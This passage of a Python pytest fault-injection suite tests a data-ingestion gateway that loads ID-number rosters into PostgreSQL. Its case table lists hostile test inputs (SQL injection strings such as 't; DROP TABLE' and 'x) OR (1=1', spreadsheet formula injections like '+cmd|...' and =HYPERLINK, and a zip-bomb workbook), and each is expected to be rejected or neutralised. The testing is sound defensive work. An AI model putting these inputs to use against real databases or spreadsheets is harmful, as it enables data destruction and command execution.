        a.execute(f'CREATE ROLE "{user}" LOGIN')
        a.execute(f'GRANT "{role_name("justice")}" TO "{user}"')
    dsn = f"host=127.0.0.1 port=5432 user={user} dbname={db} connect_timeout=5"
    with psycopg.connect(dsn, autocommit=True) as conn:
        for sql in (
            f"SELECT id_number_token FROM public.{ROSTER_TABLE}",
            "SELECT * FROM lidm_quarantine",
            "SELECT value FROM lidm_watermark",
        ):
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute(sql).fetchall()
    return "justice refused by PostgreSQL: InsufficientPrivilege"


# --------------------------------------------------------------------------- PII leaks


def c_planted_log_line_is_caught(ctx: Ctx) -> str:
    raw = _ROSTER[0][ID]
    scanner = Scanner()
    scanner.learn([raw])
    scanner.scan(f"2026-11-29 10:00:00 ERROR feed roster: bad value {raw} in row 7", "log line 1")
    scanner.scan(f"ValueError: cannot parse {raw[:4] + '*' * 14}", "log line 2")
    kinds = {(f.where, f.kind) for f in scanner.findings}
    assert ("log line 1", "id_number") in kinds and ("log line 1", "known_value") in kinds, kinds
    assert not any(w == "log line 2" for w, _ in kinds)
    assert all(raw not in str(f) for f in scanner.findings)
    return "found in the planted line (id_number + known value); masked line clean"


def c_planted_exception_is_caught(ctx: Ctx) -> str:
    legacy = next(r[ID] for r in _ROSTER if r[ID][6:8] == "19")
    legacy = legacy[:6] + legacy[8:17]
    try:
        raise ValueError(f"row 3: id {legacy} has no check character")
    except ValueError as exc:
        found = kinds_in(f"{type(exc).__name__}: {exc}")
    assert found == ["id_number"]
    return "15-digit ID in an exception text found"


def c_quarantine_never_stores_raw_ids(ctx: Ctx) -> str:
    rows = roster_rows(generate_roster(_PEOPLE, share=0.1, seed=71), bad=4, seed=71).rows
    ctx.drop("roster_1.csv", gbk(rows))
    r = one(ctx.run())
    assert r.quarantined >= 1
    scanner = Scanner()
    scanner.learn(row[ID] for row in rows)
    for _reason, row, _fld, message in quarantine_rows(ctx):
        scanner.scan(message, f"quarantine row {row}")
    for (payload,) in query(ctx.url, "SELECT payload FROM lidm_quarantine"):
        scanner.scan(payload, "quarantine payload")
    assert scanner.findings == [], [str(f) for f in scanner.findings]
    return f"{r.quarantined} quarantined rows scanned: 0 leaks"


# --------------------------------------------------------------------------- the cases


CASES = [
    Case(
        "gbk-declared-utf8", "GBK file, adapter declares UTF-8", "rejected [encoding], line + hint", c_gbk_declared_utf8
    ),
    Case("utf8-declared-gbk", "UTF-8 file, adapter declares GBK", "rejected [encoding], row 1", c_utf8_declared_gbk),
    Case("utf8-bom", "UTF-8 with BOM", "BOM stripped, all rows loaded", c_utf8_bom),
    Case("bom-on-gbk", "BOM before a GB18030 body", "BOM stripped, all rows loaded", c_bom_on_gbk_body),
    Case("mixed-eol", "CRLF and LF mixed", "all rows loaded", c_mixed_line_endings),
    Case("nul-bytes", "NUL byte inside a field", "row quarantined or file rejected, naming row", c_nul_bytes),
    Case("10mb-field", "one 10 MB field", "delivery rejected whole, naming the file", c_ten_mb_field),
    Case(
        "10mb-field-named",
        "one 10 MB field",
        "reason names row 2 and field 姓名",
        c_ten_mb_field_named,
    ),
    Case("header-only", "header-only full snapshot", "rejected [empty_snapshot]", c_header_only),
    Case("empty-file", "empty file", "rejected [empty_file]", c_empty_file),
    Case("broken-xlsx", "not a workbook", "rejected [malformed_file]", c_broken_xlsx),
    Case("still-writing", "drop still being written (no marker, growing)", "not picked up", c_drop_still_being_written),
    Case("marker-no-file", "marker without a file", "ignored", c_marker_without_file),
    Case(
        "replaced-after-marker",
        "file replaced after its marker (sha256)",
        "rejected [digest_mismatch]",
        c_file_replaced_after_marker,
    ),
    Case("duplicate-drop", "same content dropped twice (two names)", "second: unchanged/replay", c_duplicate_drop),
    Case("same-file-twice", "same file re-dropped after load", "unchanged/replay", c_same_file_dropped_twice),
    Case(
        "out-of-order", "older watermark after newer (MariaDB)", "watermark never goes back", c_out_of_order_watermark
    ),
    Case("id-check-char", "ID with wrong check character", "row quarantined (row, field)", c_id_wrong_check_char),
    Case("id-birth-date", "ID with 30 February", "row quarantined [birth_date]", c_id_impossible_birth_date),
    Case("id-future-birth", "ID born in 2099", "row quarantined [birth_date]", c_id_born_in_future),
    Case("id-wrong-city", "ID of another city (110101)", "defined: loaded or quarantined", c_id_wrong_city),
    Case("id-full-width", "ID in full-width digits", "normalized and loaded", c_id_full_width_digits),
    Case("id-lowercase-x", "ID with lowercase x", "normalized and loaded", c_id_lowercase_x),
    Case("id-legacy-15", "15-digit legacy ID", "expanded and loaded", c_id_legacy_15),
    Case("id-too-short", "14-character ID", "row quarantined", c_id_too_short),
    Case("dup-key-within", "duplicate key within a batch", "duplicates quarantined", c_dup_key_within_batch),
    Case("dup-key-across", "same key in two batches", "upsert, no duplicate", c_dup_key_across_batches),
    Case(
        "sqli-watermark",
        "SQL injection in the stored watermark",
        "bound parameter, table intact",
        c_sql_injection_in_watermark_value,
    ),
    Case("sqli-table", "SqlSource(table='t; DROP TABLE')", "ConfigError", c_sql_injection_table_name),
    Case("sqli-table-quote", "SqlSource(table='t\" --')", "ConfigError", c_sql_injection_table_name_quoted),
    Case("sqli-watermark-col", "SqlSource(watermark='x) OR (1=1')", "ConfigError", c_sql_injection_watermark_column),
    Case("sqli-mapping", "mapping column name with SQL", "rejected, table intact", c_sql_injection_mapping_column),
    Case(
        "source-killed",
        "MariaDB session KILLed mid-extract (2nd connection)",
        "SourceError, nothing written",
        c_source_killed_mid_extract,
    ),
    Case(
        "source-table-missing-odbc",
        "source table dropped (ODBC)",
        "SourceError naming the table",
        c_source_table_missing_odbc,
    ),
    Case(
        "source-table-missing-sa",
        "source table dropped (SQLAlchemy URL)",
        "SourceError naming the table",
        c_source_table_missing_sqlalchemy,
    ),
    Case(
        "source-long-text-odbc",
        "10 000-char address over ODBC",
        "quarantined/rejected, or SourceError naming jzdz",
        c_source_long_text_odbc,
    ),
    Case("source-unreachable", "MariaDB port closed", "SourceError, no password echoed", c_source_unreachable),
    Case("xlsx-formula", "=HYPERLINK(...) cell in an XLSX drop", "read as text", c_xlsx_formula_cell_is_text),
    Case("push-formula-eq", "=HYPERLINK in a pushed warning CSV", "cell neutralised", c_push_csv_hyperlink),
    Case("push-formula-at", "@SUM(...) in a pushed warning CSV", "cell neutralised", c_push_csv_at),
    Case("push-formula-plus", "+cmd|... in a pushed warning CSV", "cell neutralised", c_push_csv_plus),
    Case("push-plain-text", "plain text in a pushed warning CSV", "unchanged", c_push_csv_plain_text_untouched),
    Case(
        "xlsx-zip-bomb",
        "zip-bomb XLSX (1000x inflation)",
        "rejected before inflating",
        c_xlsx_zip_bomb,
    ),
    Case("sftp-baseline", "valid drop over real OpenSSH", "loaded", c_sftp_baseline),
    Case(
        "sftp-refused",
        "SFTP server stopped (connection refused)",
        "SourceError naming host:port",
        c_sftp_connection_refused,
    ),
    Case("sftp-changed-key", "changed host key", "HostKeyError, refused", c_sftp_changed_host_key),
    Case("sftp-unknown-key", "unknown host key", "HostKeyError, refused", c_sftp_unknown_host_key),
    Case(
        "sftp-cut",
        "SFTP lost mid-transfer (cutting proxy)",
        "error, nothing written, retry loads",
        c_sftp_lost_mid_transfer,
    ),
    Case(
        "central-killed",
        "central DB session killed in the batch tx",
        "CentralUnavailable, retry loads",
        c_central_killed_mid_load,
    ),
    Case(
        "central-killed-sql",
        "central DB killed while loading MariaDB",
        "CentralUnavailable",
        c_central_killed_mid_load_sql,
    ),
    Case("central-down", "central DB unreachable", "error, drop untouched", c_central_unreachable),
    Case(
        "central-down-classified",
        "central DB unreachable",
        "CentralUnavailable (retryable)",
        c_central_unreachable_classified,
    ),
    Case("crash-before-commit", "an exception before commit", "rolled back, set aside", c_crash_before_commit),
    Case(
        "disk-full-settle",
        "ENOSPC writing the receipt after commit",
        "batch whole, never twice",
        c_disk_full_while_staging,
    ),
    Case("disk-full-read", "ENOSPC while staging/reading the drop", "nothing written", c_disk_full_reading_drop),
    Case("keyring-missing", "key file missing", "KeyringError", c_keyring_missing),
    Case("keyring-corrupt", "key file not JSON", "KeyringError", c_keyring_corrupt),
    Case(
        "keyring-mode-644",
        "key file mode 644",
        "KeyringError (refused)",
        c_keyring_world_readable,
    ),
    Case(
        "sig-unknown-key", "drop signed by an unknown key", "rejected [unknown_producer_key]", c_signature_unknown_key
    ),
    Case("sig-missing", "signature required but missing", "rejected [signature_missing]", c_signature_missing),
    Case("sig-file-changed", "signed file changed afterwards", "rejected [digest_mismatch]", c_signed_file_changed),
    Case(
        "unauthorized-query",
        "consumer reads an ungranted table",
        "refused by PostgreSQL",
        c_unauthorized_consumer_query,
    ),
    Case("leak-log-line", "raw ID planted in a log line", "scanner finds it", c_planted_log_line_is_caught),
    Case("leak-exception", "15-digit ID in an exception", "scanner finds it", c_planted_exception_is_caught),
    Case("leak-quarantine", "bad rows quarantined", "no raw ID in quarantine", c_quarantine_never_stores_raw_ids),
]

# Cases of issue 14 (inputs and faults departments really produce), one module per area.
CASES += fault_cases_drops.CASES + fault_cases_files.CASES + fault_cases_process.CASES + fault_cases_sql.CASES

_RECORDS: list[CaseRecord] = []


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module", autouse=True)
def _table_at_the_end() -> Iterator[None]:
    yield
    if _RECORDS:
        text = write_table(_RECORDS, Path("test-artifacts") / "fault-suite.md")
        print("\n" + text)


def _params() -> list[Any]:
    out = []
    for case in CASES:
        marks = [pytest.mark.xfail(strict=True, reason=case.bug)] if case.bug else []
        out.append(pytest.param(case, id=case.id, marks=marks))
    return out


@pytest.mark.parametrize("case", _params())
def test_fault(case: Case, request, tmp_path, gateway_pg, monkeypatch, caplog) -> None:  # type: ignore[no-untyped-def]
    caplog.set_level("INFO", logger="lidm")
    ctx = Ctx(request, tmp_path, gateway_pg, monkeypatch)
    record = CaseRecord(case.id, case.fault, case.expected, bug=case.bug)
    _RECORDS.append(record)
    started = time.monotonic()
    try:
        record.result = case.fn(ctx)
        monkeypatch.undo()
        totals = assert_whole(ctx.url)
        record.batches, record.lost = totals["batches"], totals["lost"]
        planted = case.id.startswith("leak-") and case.id != "leak-quarantine"
        leaked = [t for t in [caplog.text, *ctx.logs] if kinds_in(t)] if not planted else []
        record.leaks = len(leaked)
        assert not leaked, "a log line or error message carries a personal number"
        record.status = "xpass" if case.bug else "pass"
    except BaseException as exc:
        record.status = "xfail (bug)" if case.bug else "FAIL"
        record.result = record.result or f"{type(exc).__name__}: {str(exc).splitlines()[0][:120] if str(exc) else ''}"
        raise
    finally:
        record.seconds = time.monotonic() - started


def test_the_suite_covers_at_least_40_cases() -> None:
    assert len(CASES) >= 40 and len({c.id for c in CASES}) == len(CASES)
